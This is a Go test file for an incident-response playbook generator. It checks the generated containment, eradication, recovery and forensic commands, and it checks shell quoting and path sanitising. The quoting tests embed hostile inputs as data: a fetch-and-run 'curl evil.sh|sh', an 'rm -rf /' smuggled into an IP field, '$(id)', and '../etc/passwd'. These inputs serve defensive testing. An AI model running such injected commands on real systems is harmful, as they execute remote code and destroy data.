package engine

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/socops/sochub/internal/models"
)

func phaseByName(t *testing.T, pb models.Playbook, name models.PhaseName) models.Phase {
	t.Helper()
	for _, p := range pb.Phases {
		if p.Name == name {
			return p
		}
	}
	t.Fatalf("phase %s missing", name)
	return models.Phase{}
}

func stepTitles(p models.Phase) []string {
	titles := make([]string, 0, len(p.Steps))
	for _, s := range p.Steps {
		titles = append(titles, s.Title)
	}
	return titles
}

func TestBuildPlaybookPhaseOrder(t *testing.T) {
	pb := BuildPlaybook(models.UnifiedIncident{}, nil)
	require.Len(t, pb.Phases, 4)
	assert.Equal(t, models.PhaseContainment, pb.Phases[0].Name)
	assert.Equal(t, models.PhaseEradication, pb.Phases[1].Name)
	assert.Equal(t, models.PhaseRecovery, pb.Phases[2].Name)
	assert.Equal(t, models.PhaseForensic, pb.Phases[3].Name)

	assert.True(t, pb.Phases[0].NoSpecificSteps)
	assert.NotNil(t, pb.Phases[0].Steps)
	assert.True(t, pb.Phases[1].NoSpecificSteps)
	assert.False(t, pb.Phases[2].NoSpecificSteps, "rule re-baselining is unconditional")
	assert.Len(t, pb.Phases[3].Steps, 2)
}

func TestBuildPlaybookFullIncident(t *testing.T) {
	inc := incidentWith(92, "HIGH", "T1059",
		models.CategoryCredentialAbuse, models.CategoryMaliciousPattern)
	inc.User = "alice"
	inc.IP = "10.0.0.5"
	owner := "bob"
	lifecycle := &models.LifecycleRecord{ID: inc.ID, Status: models.StatusTriaged, Owner: &owner}

	pb := BuildPlaybook(inc, lifecycle)

	assert.Equal(t, "INC_0001", pb.Context.ID)
	assert.Equal(t, models.StatusTriaged, pb.Context.Status)
	assert.Equal(t, "bob", pb.Context.Owner)

	containment := phaseByName(t, pb, models.PhaseContainment)
	assert.Equal(t, []string{
		"Block suspected C2 / malicious IP",
		"Lock account alice",
		"Invalidate sessions and enforce MFA",
		"Block reverse shells / suspicious outbound ports",
	}, stepTitles(containment))
	assert.Equal(t, []string{
		"iptables -A INPUT -s 10.0.0.5 -j DROP",
		"iptables -A OUTPUT -d 10.0.0.5 -j DROP",
	}, containment.Steps[0].Commands)
	assert.Contains(t, containment.Steps[2].Commands, "pkill -KILL -u alice")

	eradication := phaseByName(t, pb, models.PhaseEradication)
	assert.Equal(t, []string{"Review and clean cron jobs", "Inspect system services for backdoors"}, stepTitles(eradication))

	recovery := phaseByName(t, pb, models.PhaseRecovery)
	assert.Equal(t, []string{"Reset credentials for alice", "Re-baseline detection rules"}, stepTitles(recovery))

	forensic := phaseByName(t, pb, models.PhaseForensic)
	assert.Equal(t, "mkdir -p /var/ir/INC_0001", forensic.Steps[0].Commands[0])
	assert.Equal(t, "ps aux > /var/ir/INC_0001/ps.txt", forensic.Steps[1].Commands[0])
}

func TestBuildPlaybookCredentialAbuseWithoutUser(t *testing.T) {
	inc := incidentWith(0, "", "", models.CategoryCredentialAbuse)
	pb := BuildPlaybook(inc, nil)

	containment := phaseByName(t, pb, models.PhaseContainment)
	require.Len(t, containment.Steps, 1)
	assert.Equal(t, "# pkill -KILL -u <user>", containment.Steps[0].Commands[1])
	assert.Empty(t, pb.Context.Status)
}

func TestBuildPlaybookTimeAnomalyCommand(t *testing.T) {
	inc := incidentWith(0, "", "", models.CategoryTimeAnomaly)
	inc.Forensic.Findings[0].Ts = "2024-01-05T03:14:00"

	eradication := phaseByName(t, BuildPlaybook(inc, nil), models.PhaseEradication)
	require.Len(t, eradication.Steps, 1)
	assert.Equal(t, []string{"grep 'Jan  5 03:' /var/log/auth.log || true"}, eradication.Steps[0].Commands)

	inc.Forensic.Findings[0].Ts = "yesterday"
	eradication = phaseByName(t, BuildPlaybook(inc, nil), models.PhaseEradication)
	assert.Equal(t, []string{offHoursGrep}, eradication.Steps[0].Commands)
}

func TestBuildPlaybookQuotesProducerValues(t *testing.T) {
	inc := incidentWith(95, "CRITICAL", "T1078", models.CategoryCredentialAbuse)
	inc.User = "bob; curl evil.sh|sh"
	inc.IP = "1.2.3.4 -j ACCEPT; rm -rf /"
	pb := BuildPlaybook(inc, nil)

	var commands []string
	for _, phase := range pb.Phases {
		for _, step := range phase.Steps {
			commands = append(commands, step.Commands...)
		}
	}
	assert.Contains(t, commands, "iptables -A INPUT -s '1.2.3.4 -j ACCEPT; rm -rf /' -j DROP")
	assert.Contains(t, commands, "iptables -A OUTPUT -d '1.2.3.4 -j ACCEPT; rm -rf /' -j DROP")
	assert.Contains(t, commands, "usermod -L 'bob; curl evil.sh|sh'")
	assert.Contains(t, commands, "passwd -l 'bob; curl evil.sh|sh'")
	assert.Contains(t, commands, "pkill -KILL -u 'bob; curl evil.sh|sh'")
	assert.Contains(t, commands, "passwd 'bob; curl evil.sh|sh'")
	assert.Contains(t, commands, "usermod -U 'bob; curl evil.sh|sh'")
	for _, cmd := range commands {
		assert.NotContains(t, cmd, "usermod -L bob;")
	}
}

func TestShellArg(t *testing.T) {
	cases := map[string]string{
		"alice":         "alice",
		"10.0.0.5":      "10.0.0.5",
		"fe80::1":       "fe80::1",
		"svc.backup@ad": "svc.backup@ad",
		"-rf":           "'-rf'",
		"":              "''",
		"o'neil":        `'o'"'"'neil'`,
		"$(id)":         "'$(id)'",
	}
	for in, want := range cases {
		assert.Equal(t, want, shellArg(in), in)
	}
}

func TestForensicDir(t *testing.T) {
	assert.Equal(t, "/var/ir/INC_0001", forensicDir("INC_0001"))
	assert.Equal(t, "/var/ir/unknown", forensicDir(""))
	assert.Equal(t, "/var/ir/unknown", forensicDir(".."))
	assert.Equal(t, "/var/ir/.._etc_passwd", forensicDir("../etc/passwd"))
	assert.Equal(t, "/var/ir/a_b", forensicDir("a b"))
}
